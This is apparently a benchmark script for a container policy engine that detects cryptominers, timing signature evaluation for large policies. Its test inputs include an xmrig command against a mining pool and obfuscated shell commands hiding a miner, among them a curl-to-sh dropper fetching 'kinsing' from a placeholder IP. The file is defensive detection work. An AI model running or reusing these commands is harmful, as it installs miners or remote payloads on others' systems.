"""Signature engine throughput and per-spec latency for 10, 1,000 and 10,000 user patterns.

Run: .venv/bin/python bench/engine.py

Each policy = the built-in bundle + N user signatures (a mix of argument patterns, wallet
patterns, pool hosts, binaries and images, as a large organisation's policy would carry).
Specs are a realistic mix of benign containers with one miner in ten. Then the latency of
commands hiding a miner with shell and interpreter tricks (hex, gzip over base64, fragments,
a dropper, a python list, a gzip bomb cut at the evaluator's bounds).
"""

from __future__ import annotations

import base64
import gzip
import random
import statistics
import time

from minerguard.api.policy import MinerPolicy
from minerguard.compiled_policy import compile_policy
from minerguard.signatures.engine import Evaluator, Subject

RNG = random.Random(7)


def word(n: int = 8) -> str:
    return "".join(RNG.choices("abcdefghijklmnopqrstuvwxyz", k=n))


def policy(n: int) -> MinerPolicy:
    per = max(1, n // 5)
    signatures = {
        "argumentPatterns": [f"--{word()}=[0-9]{{2,6}}" for _ in range(per)],
        "walletPatterns": [f"{word(3).upper()}[0-9a-f]{{40}}" for _ in range(per)],
        "poolHosts": [f"{word()}.{word(4)}.example" for _ in range(per)],
        "binaries": [word(10) for _ in range(per)],
        "images": [f"registry.example/{word()}/{word()}" for _ in range(n - 4 * per)],
    }
    return MinerPolicy.model_validate(
        {"metadata": {"name": f"p{n}"}, "spec": {"signatures": signatures}}
    )


SPECS = [
    Subject(
        argv=("/docker-entrypoint.sh", "nginx", "-g", "daemon off;"),
        env=(("NGINX_VERSION", "1.27.2"), ("PKG_RELEASE", "1~bookworm")),
        image="docker.io/library/nginx:1.27",
    ),
    Subject(
        argv=("java", "-Xmx2g", "-jar", "/app/service.jar", "--server.port=8080"),
        env=(
            ("JAVA_HOME", "/opt/java"),
            ("SPRING_PROFILES_ACTIVE", "prod"),
            ("DB_URL", "jdbc:postgresql://db.prod.svc:5432/app"),
        ),
        image="registry.example/team/service:4.2.1",
    ),
    Subject(
        argv=("sh", "-c", "python manage.py migrate && gunicorn app.wsgi -b 0.0.0.0:8000 -w 4"),
        env=(("DJANGO_SETTINGS_MODULE", "app.settings"), ("SECRET_KEY", "x" * 50)),
        image="ghcr.io/org/web:2024.11",
    ),
    Subject(
        argv=(
            "/usr/bin/xmrig",
            "-o",
            "stratum+tcp://pool.supportxmr.com:3333",
            "-u",
            "4" + "A" * 94,
            "--donate-level",
            "1",
        ),
        image="docker.io/library/alpine:3.20",
    ),
] + [
    Subject(argv=("/bin/app", f"--id={i}"), env=(("HOME", "/root"),), image=f"r/app{i}:1")
    for i in range(6)
]


def measure(n: int) -> tuple[float, float, float, float, float]:
    started = time.perf_counter()
    compiled = compile_policy(policy(n))
    compile_ms = (time.perf_counter() - started) * 1e3
    engine = compiled.engine
    for subject in SPECS * 50:  # warm-up
        engine.evaluate(subject)
    samples = []
    for _ in range(300):
        for subject in SPECS:
            t0 = time.perf_counter_ns()
            engine.evaluate(subject)
            samples.append((time.perf_counter_ns() - t0) / 1e3)
    samples.sort()
    total_s = sum(samples) / 1e6
    return (
        compile_ms,
        len(samples) / total_s,
        statistics.median(samples),
        samples[int(len(samples) * 0.99)],
        statistics.mean(samples),
    )


def main() -> None:
    header = ("patterns", "compile ms", "specs/s", "p50 us", "p99 us", "mean us")
    print(" ".join(f"{h:>{w}}" for h, w in zip(header, (9, 11, 9, 8, 8, 8), strict=True)))
    for n in (10, 1_000, 10_000):
        compile_ms, rate, p50, p99, mean = measure(n)
        print(f"{n:>9} {compile_ms:>11.1f} {rate:>9.0f} {p50:>8.1f} {p99:>8.1f} {mean:>8.1f}")
    big = Subject(argv=("sh", "-c", "a " * (1 << 19)))
    engine = compile_policy(policy(10)).engine
    t0 = time.perf_counter()
    engine.evaluate(big)
    print(f"1 MiB shell argument: {(time.perf_counter() - t0) * 1e3:.0f} ms")
    tricks(engine)


MINER = "./x -o pool.supportxmr.com:3333 --donate-level 1"
TRICKS = {
    "hex | xxd -r -p | sh": f"echo {MINER.encode().hex()} | xxd -r -p | sh",
    "base64 | gunzip | sh": "echo "
    + base64.b64encode(gzip.compress(MINER.encode())).decode()
    + " | base64 -d | gunzip | sh",
    "fragments ($p$q)": "p=./x; h=supportxmr; o=--donate; $p -o pool.$h.com:3333 ${o}-level 1",
    "curl | sh (dropper)": "curl -fsSL http://203.0.113.9/kinsing | sh",
    "python -c list": "python3 -c \"import os; os.execv('./x', ['./x', '-o', 'pool.sup'"
    " + 'portxmr.com:3333'])\"",
    "gzip bomb | sh (cut)": "echo "
    + base64.b64encode(gzip.compress(b"\n" * (64 << 20))).decode()
    + " | base64 -d | gunzip | sh",
}
"""Commands with the tricks the shell evaluator undoes (minerguard/signatures/shell)."""


def tricks(engine: Evaluator) -> None:
    """Per-spec latency of commands that hide a miner with a shell or interpreter trick."""
    for name, script in TRICKS.items():
        subject = Subject(argv=("sh", "-c", script))
        samples = []
        for _ in range(200):
            t0 = time.perf_counter_ns()
            verdict = engine.evaluate(subject)
            samples.append((time.perf_counter_ns() - t0) / 1e3)
        shown = "denied" if verdict.matched else "allowed"
        print(f"{name:>24}: p50 {statistics.median(samples):>9.1f} us ({shown})")


if __name__ == "__main__":
    main()
